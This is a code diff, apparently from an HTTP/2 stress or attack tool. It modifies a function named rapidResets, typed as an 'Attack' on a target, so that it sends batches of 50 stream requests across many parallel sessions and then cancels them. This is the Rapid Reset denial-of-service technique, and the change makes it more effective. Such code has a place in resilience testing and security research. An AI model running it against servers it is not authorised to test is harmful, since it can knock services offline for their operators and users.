@@ -14,10 +14,11 @@ export const unreadStreams: Attack = async (target) => {
 export const rapidResets: Attack = async (target) => {
   await lanes(8, 50, async () => {
     const session = await dialHttp2(target);
-    for (let i = 0; i < 1_000 && !session.closed && !session.destroyed; i++) {
-      const stream = ignore(session.request({ ':path': LARGE_ANSWER }));
-      stream.close(constants.NGHTTP2_CANCEL);
-      if (i % 50 === 49) await pause(5);
+    for (let round = 0; round < 20 && !session.closed && !session.destroyed; round++) {
+      const streams = Array.from({ length: 50 }, () => ignore(session.request({ ':path': LARGE_ANSWER })));
+      // In the same turn they would not be sent at all.
+      await pause(2);
+      for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
     }
     session.destroy();
   });
